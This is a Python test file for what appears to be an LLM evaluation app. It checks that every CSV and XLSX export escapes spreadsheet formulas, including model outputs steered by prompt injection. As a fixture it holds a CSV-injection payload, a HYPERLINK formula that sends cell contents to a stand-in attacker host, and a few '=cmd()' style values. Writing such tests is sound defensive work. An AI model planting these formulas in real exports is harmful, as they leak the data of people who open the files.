"""Every CSV or XLSX that leaves the product goes through the formula guard (core.exports).

Model output can be steered by prompt injection, and model, task and item names come from
uploaded files: a cell such as ``=HYPERLINK(...)`` must reach a spreadsheet as text.
"""
from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from core.evaluation.evalset import to_long_csv
from core.evaluation.loading import load_csv
from core.settings import REPO_ROOT
from tests.helpers.apptest import store

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
# Whatever writes a CSV or spreadsheet file: only core/exports.py may do it.
WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|ExcelWriter\(|"
                     r"Workbook\(|xlsxwriter")


def test_every_csv_and_xlsx_writer_is_the_guarded_one():
    offenders = []
    for folder in ("core", "ui", "app_pages"):
        for path in sorted((REPO_ROOT / folder).rglob("*.py")):
            if path == REPO_ROOT / "core" / "exports.py":
                continue
            for lineno, line in enumerate(path.read_text().splitlines(), 1):
                if WRITERS.search(line):
                    offenders.append(f"{path.relative_to(REPO_ROOT)}:{lineno}: {line.strip()}")
    for lineno, line in enumerate((REPO_ROOT / "app.py").read_text().splitlines(), 1):
        if WRITERS.search(line):
            offenders.append(f"app.py:{lineno}: {line.strip()}")
    assert not offenders, "write CSV/XLSX with core.exports (csv_bytes, write_csv, write_xlsx):\n" \
        + "\n".join(offenders)


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def evil_evalset():
    frame = pd.DataFrame({
        "item_id": ["1", "2"], "model": ["=cmd()", "=cmd()"], "task": ["@SUM(A1)", "ok"],
        "label": ["-1", "+1"], "prediction": ["-1", "-1"], "output": [EVIL, "fine"],
        "cost_usd": ["0.5", "0.25"]})
    return load_csv(frame.to_csv(index=False).encode(), name="evil.csv")


def test_the_long_format_download_cannot_run_formulas():
    rows = _rows(to_long_csv(evil_evalset()))
    header, body = rows[0], rows[1:]
    column = {name: [r[header.index(name)] for r in body] for name in header}
    assert column["output"] == ["'" + EVIL, "fine"]
    assert column["model"] == ["'=cmd()"] * 2 and column["task"] == ["'@SUM(A1)", "ok"]
    assert column["label"] == ["-1", "+1"]  # plain numbers stay numbers: they cannot run
    again = load_csv(to_long_csv(evil_evalset()), name="again.csv")
    assert again.score.tolist() == evil_evalset().score.tolist()


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """file name -> bytes of every download button a page test renders."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    seen: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if isinstance(path_or_data, bytes) and filename:
            seen[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    return seen


def test_the_leaderboard_download_cannot_run_formulas(workspace_path, downloads):
    set_id = store(workspace_path, evil_evalset())
    at = AppTest.from_file(str(REPO_ROOT / "app_pages" / "compare.py"), default_timeout=180)
    at.session_state["_sample_checked"] = True
    at.session_state["evalset_id"] = set_id
    at.run()
    assert not at.exception, at.exception
    rows = _rows(downloads["leaderboard.csv"])
    assert rows[1][rows[0].index("model")] == "'=cmd()"


def test_results_csv_of_a_run_cannot_run_formulas(fake_llm, ws, tmp_path, monkeypatch):
    from core.live.command import run_cli

    for name, value in fake_llm.env().items():
        monkeypatch.setenv(name, value)
    fake_llm.script("ok", model="echo-evil", text=EVIL)  # an answer steered by prompt injection
    inputs = tmp_path / "inputs.csv"
    inputs.write_text("item_id,input\n1,say it\n")
    out = tmp_path / "RESULTS.csv"
    assert run_cli(inputs, ["openai:echo-evil"], out) == 0
    rows = _rows(out.read_bytes())
    assert rows[1][rows[0].index("output")] == "'" + EVIL
